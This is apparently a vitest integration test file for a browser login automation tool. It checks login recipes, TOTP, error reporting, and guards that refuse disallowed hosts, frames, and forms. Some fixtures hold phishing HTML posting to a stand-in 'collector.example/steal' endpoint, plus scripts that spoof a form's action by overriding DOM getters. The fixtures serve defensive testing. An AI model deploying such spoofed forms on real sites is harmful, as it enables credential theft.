import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runLogin } from '../../../src/browser/login/run-login.js';
import type { LoginGuard, LoginInput, LoginOutcome } from '../../../src/browser/index.js';
import { loginRecipeSchema, type LoginRecipe, type PageCheck } from '../../../src/core/index.js';
import type { DemoPortal } from '../../../src/demo-portal/index.js';
import { CANARY_PASSWORD, CANARY_SEED, CANARY_USERNAME, credential, hostGuard, launchBrowser, newPage, startPortal } from './support.js';

const SUCCESS: PageCheck = { url: '**/accounts', selector: '#balance' };
const FAILURE: PageCheck = { selector: '#login-error' };
const fillLogin = [
  { fill: '#username', value: '{{username}}' },
  { fill: '#password', value: '{{password}}' },
  { click: '#sign-in' },
];

/** Each demo-portal variant: its start path and the recipe an administrator would write for it. */
const VARIANTS: Record<string, LoginRecipe> = {
  '/login': { steps: fillLogin },
  '/login-totp': { steps: [...fillLogin, { fill: '#totp', value: '{{totp}}' }, { click: '#verify' }] },
  '/login-two-page': { steps: [{ fill: '#username', value: '{{username}}' }, { click: '#sign-in' }, { fill: '#password', value: '{{password}}' }, { click: '#sign-in' }] },
  '/login-iframe': { steps: [{ frame: '#login-frame', steps: fillLogin }] },
  '/login-scripted': { steps: [{ ifVisible: '#cookie-banner', steps: [{ click: '#cookie-accept' }] }, ...fillLogin] },
  '/login-json': { steps: fillLogin },
};

describe('runLogin against the demo portal (real Chromium)', () => {
  let browser: Browser;
  let portal: DemoPortal;
  let base: string;
  let guard: LoginGuard;

  beforeAll(async () => {
    browser = await launchBrowser();
    ({ portal, url: base } = await startPortal());
    guard = hostGuard(['127.0.0.1'], true);
  });
  afterAll(async () => {
    await browser?.close();
    await portal?.stop();
  });

  async function login(path: string, input: Partial<LoginInput> & { password?: string; fields?: Record<string, string> }, withGuard = guard) {
    const fields = input.fields ?? { username: CANARY_USERNAME, password: input.password ?? CANARY_PASSWORD, totpSeed: CANARY_SEED };
    const secret = credential(fields);
    const { context, page } = await newPage(browser);
    try {
      const outcome = await runLogin(
        page,
        context,
        {
          startUrl: `${base}${path}`,
          recipe: input.recipe ?? null,
          successCheck: input.successCheck === undefined ? SUCCESS : input.successCheck,
          failureCheck: input.failureCheck === undefined ? FAILURE : input.failureCheck,
          timeoutMs: input.timeoutMs ?? 20_000,
          readCredential: async () => secret,
        },
        withGuard,
      );
      const balance = outcome.ok ? await page.locator('#balance').textContent() : null;
      expect(secret.disposed).toBe(true);
      expectNoSecrets(outcome, fields);
      return { outcome, balance, page };
    } finally {
      await context.close();
    }
  }

  for (const [path, recipe] of Object.entries(VARIANTS)) {
    it(`logs in on ${path} with its recipe`, async () => {
      expect(loginRecipeSchema.parse(recipe)).toEqual(recipe);
      const { outcome, balance } = await login(path, { recipe });
      expect(outcome).toMatchObject({ ok: true, injection: 'intercept' });
      expect(balance).toBe('€12,345.67');
    });

    it(`logs in on ${path} with the automatic recipe and default checks`, async () => {
      const { outcome, balance } = await login(path, { recipe: null, successCheck: null, failureCheck: null });
      expect(outcome).toMatchObject({ ok: true, injection: 'intercept' });
      expect(balance).toBe('€12,345.67');
    });
  }

  it('reports a wrong password as a refused login at the check step, with the recipe and the automatic one', async () => {
    const wrong = 'canary-wrong-Zq81';
    const byRecipe = await login('/login', { recipe: VARIANTS['/login']!, password: wrong });
    expect(byRecipe.outcome).toMatchObject({ ok: false, step: '4: check the result' });
    expect((byRecipe.outcome as { message: string }).message).toMatch(/refused the login/);
    const auto = await login('/login', { recipe: null, successCheck: null, failureCheck: null, password: wrong });
    expect(auto.outcome).toMatchObject({ ok: false });
    expect((auto.outcome as { step: string }).step).toMatch(/check the result$/);
    const twoPage = await login('/login-two-page', { recipe: null, successCheck: null, failureCheck: null, password: wrong });
    expect(twoPage.outcome.ok).toBe(false);
  });

  it("a page that hashes the password needs injection 'fill'; with interception the failure says so", async () => {
    const filled = await login('/login-hashed', { recipe: { ...VARIANTS['/login']!, injection: 'fill' } });
    expect(filled.outcome).toMatchObject({ ok: true, injection: 'fill' });
    expect(filled.balance).toBe('€12,345.67');
    const intercepted = await login('/login-hashed', { recipe: VARIANTS['/login']! });
    expect(intercepted.outcome).toMatchObject({ ok: false, step: '4: check the result' });
    expect((intercepted.outcome as { message: string }).message).toMatch(/may need injection: fill/);
  });

  it('reports a wrong TOTP seed at the check step after the code', async () => {
    const { outcome } = await login('/login-totp', { recipe: VARIANTS['/login-totp']!, fields: { username: CANARY_USERNAME, password: CANARY_PASSWORD, totpSeed: 'JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP' } });
    expect(outcome).toMatchObject({ ok: false, step: '6: check the result' });
  });

  it('names the step whose element never appears, without a value', async () => {
    const recipe: LoginRecipe = { steps: [{ fill: '#username', value: '{{username}}' }, { fill: '#no-such-field', value: '{{password}}' }, { click: '#sign-in' }] };
    const { outcome } = await login('/login', { recipe, timeoutMs: 3000 });
    expect(outcome).toMatchObject({ ok: false, step: '2: fill #no-such-field' });
    expect((outcome as { message: string }).message).toMatch(/timed out|longer than/);
  });

  it('skips optional steps and ifVisible blocks whose element is absent', async () => {
    const recipe: LoginRecipe = { steps: [{ click: '#cookie-accept', optional: true }, { ifVisible: '#consent', steps: [{ click: '#nothing' }] }, ...fillLogin, { waitFor: { navigation: true } }, { waitFor: { url: '/\\/accounts$/' } }] };
    const { outcome } = await login('/login', { recipe });
    expect(outcome.ok).toBe(true);
  });

  it('says so when the credential lacks a field the recipe needs', async () => {
    const { outcome } = await login('/login', { recipe: { steps: [{ fill: '#username', value: '{{field:branchCode}}' }] }, fields: { username: CANARY_USERNAME, password: CANARY_PASSWORD } });
    expect(outcome).toMatchObject({ ok: false, step: '1: fill #username', message: "the credential has no field 'branchCode'" });
  });

  it('refuses a start URL outside the allowed hosts, and plain http unless the asset allows it', async () => {
    const elsewhere = await login('/login', { recipe: VARIANTS['/login']! }, hostGuard(['portal.example.com'], true));
    expect(elsewhere.outcome).toMatchObject({ ok: false, step: '0: open the start URL' });
    expect((elsewhere.outcome as { message: string }).message).toMatch(/^refused/);
    const insecure = await login('/login', { recipe: VARIANTS['/login']! }, hostGuard(['127.0.0.1'], false));
    expect(insecure.outcome).toMatchObject({ ok: false, step: '0: open the start URL' });
  });

  it('never fills into a frame whose origin is not allowed', async () => {
    const frameRefused: LoginGuard = { isAllowedOrigin: (url) => guard.isAllowedOrigin(url) && !url.includes('/login-iframe/form') };
    const byRecipe = await login('/login-iframe', { recipe: VARIANTS['/login-iframe']! }, frameRefused);
    expect(byRecipe.outcome).toMatchObject({ ok: false, step: '1.1: fill #username' });
    expect((byRecipe.outcome as { message: string }).message).toMatch(/^refused: the field's page/);
    const auto = await login('/login-iframe', { recipe: null, successCheck: null, failureCheck: null }, frameRefused);
    expect(auto.outcome).toMatchObject({ ok: false });
    expect((auto.outcome as { message: string }).message).toMatch(/^refused/);
  });

  it('never fills into a form that posts to an origin that is not allowed', async () => {
    const secret = credential({ username: CANARY_USERNAME, password: CANARY_PASSWORD });
    const { context, page } = await newPage(browser);
    try {
      // A page of the allowed origin whose form would send the password elsewhere.
      await context.route(`${base}/phish`, (route) =>
        route.fulfill({ contentType: 'text/html', body: '<form action="https://collector.example/steal" method="post"><input id="username"><input id="password" type="password"><button>Go</button></form>' }),
      );
      const outcome = await runLogin(page, context, { startUrl: `${base}/phish`, recipe: VARIANTS['/login']!, successCheck: SUCCESS, failureCheck: FAILURE, timeoutMs: 5000, readCredential: async () => secret }, guard);
      expect(outcome).toMatchObject({ ok: false, step: '1: fill #username' });
      expect((outcome as { message: string }).message).toMatch(/form posts to an origin that is not allowed/);
      expect(await page.locator('#password').inputValue()).toBe('');
      expect(secret.disposed).toBe(true);
    } finally {
      await context.close();
    }
  });

  it("a page whose scripts make its form claim an allowed action (form getter, getAttribute) is refused; nothing is filled or sent", async () => {
    // The foreign origin: a real server the form truly posts to (localhost is not an allowed host here).
    const seen: string[] = [];
    const foreign = createServer((req, res) => {
      const chunks: Buffer[] = [];
      req.on('data', (chunk: Buffer) => chunks.push(chunk));
      req.on('end', () => {
        seen.push(`${req.method} ${req.url} ${Buffer.concat(chunks).toString('utf8')}`);
        res.end('ok');
      });
    });
    await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
    const steal = `http://localhost:${(foreign.address() as AddressInfo).port}/steal`;
    const form = `<form id="real" action="${steal}" method="post"><input id="username" name="username"><input id="password" name="password" type="password"><button id="sign-in">Sign in</button></form>`;
    const pages = {
      // The field's form getter answers with an honest form of the page.
      '/lying-form-getter': `<form id="decoy" action="/login" method="post"></form>${form}<script>Object.defineProperty(HTMLInputElement.prototype, 'form', { get() { return document.getElementById('decoy'); } });</script>`,
      // The real form, but getAttribute says it posts here.
      '/lying-get-attribute': `${form}<script>const get = Element.prototype.getAttribute; Element.prototype.getAttribute = function (name) { return name === 'action' ? '/login' : name === 'form' ? null : get.call(this, name); };</script>`,
    };
    try {
      for (const [path, body] of Object.entries(pages)) {
        for (const recipe of [{ ...VARIANTS['/login']!, injection: 'fill' as const }, null]) {
          const secret = credential({ username: CANARY_USERNAME, password: CANARY_PASSWORD });
          const { context, page } = await newPage(browser);
          try {
            await context.route(`${base}${path}`, (route) => route.fulfill({ contentType: 'text/html', body }));
            const outcome = await runLogin(page, context, { startUrl: `${base}${path}`, recipe, successCheck: SUCCESS, failureCheck: FAILURE, timeoutMs: 5000, readCredential: async () => secret }, guard);
            expect(outcome).toMatchObject({ ok: false });
            expect((outcome as { step: string }).step).toMatch(recipe ? /^1: fill #username$/ : /fill the (username|password)$/);
            expect((outcome as { message: string }).message).toBe('refused: the form posts to an origin that is not allowed (or over plain http)');
            expect(await page.locator('#username').inputValue()).toBe('');
            expect(await page.locator('#password').inputValue()).toBe('');
            expect(secret.disposed).toBe(true);
            expectNoSecrets(outcome, { password: CANARY_PASSWORD });
          } finally {
            await context.close();
          }
        }
      }
      expect(seen.join('\n')).not.toContain(CANARY_PASSWORD);
      expect(seen.join('\n')).not.toContain(CANARY_USERNAME);
    } finally {
      await new Promise((resolve) => foreign.close(resolve));
    }
  });

  it('fills honest fields the claim check must not refuse: form attributes (over an ancestor form, naming no form), a shadow root, no form, contenteditable, a form the parser closed inside a table', async () => {
    const foreign = 'https://collector.example/steal';
    const body =
      `<form action="${foreign}"><input id="named" form="good"><input id="nameless" form="no-such-form"><input id="empty" form=""></form><form id="good" action="/login"></form>` +
      `<input id="formless"><div id="editable" contenteditable="true"></div><div id="host"></div><p id="ready">ready</p>` +
      // A legacy layout: a form opened inside a table is closed at once by the HTML parser, and the rows' fields are still its own.
      `<table><form action="/login"><tr><td><input id="tabled" type="password"></td></tr></form></table>` +
      `<script>document.getElementById('host').attachShadow({ mode: 'open' }).innerHTML = '<form id="good" action="/login"></form><input id="shadowed" form="good"><form action="/login"><input id="inner" type="password"></form>';</script>`;
    const ids = ['named', 'nameless', 'empty', 'formless', 'editable', 'shadowed', 'inner', 'tabled'];
    const secret = credential({ username: CANARY_USERNAME, password: CANARY_PASSWORD });
    const { context, page } = await newPage(browser);
    try {
      await context.route(`${base}/honest`, (route) => route.fulfill({ contentType: 'text/html', body }));
      const recipe: LoginRecipe = { injection: 'fill', steps: ids.map((id) => ({ fill: `#${id}`, value: '{{password}}' })) };
      const outcome = await runLogin(page, context, { startUrl: `${base}/honest`, recipe, successCheck: { selector: '#ready' }, failureCheck: FAILURE, timeoutMs: 10_000, readCredential: async () => secret }, guard);
      expect(outcome).toMatchObject({ ok: true });
      for (const id of ids.filter((id) => id !== 'editable')) expect(await page.locator(`#${id}`).inputValue()).toBe(CANARY_PASSWORD);
      expect(await page.locator('#editable').textContent()).toBe(CANARY_PASSWORD);
    } finally {
      await context.close();
    }
  });

  it('reports a credential that cannot be read without touching the page', async () => {
    const { context, page } = await newPage(browser);
    try {
      const outcome = await runLogin(page, context, { startUrl: `${base}/login`, recipe: null, successCheck: null, failureCheck: null, readCredential: () => Promise.reject(new Error(`vault down ${CANARY_PASSWORD}`)) }, guard);
      expect(outcome).toMatchObject({ ok: false, step: '0: read the credential', message: 'the credential could not be read' });
      expect(page.url()).toBe('about:blank');
    } finally {
      await context.close();
    }
  });
});

function expectNoSecrets(outcome: LoginOutcome, fields: Record<string, string>): void {
  const text = JSON.stringify(outcome);
  for (const [name, value] of Object.entries(fields)) if (name !== 'username') expect(text).not.toContain(value);
  expect(text).not.toContain(CANARY_PASSWORD);
  expect(text).not.toContain(CANARY_SEED);
}
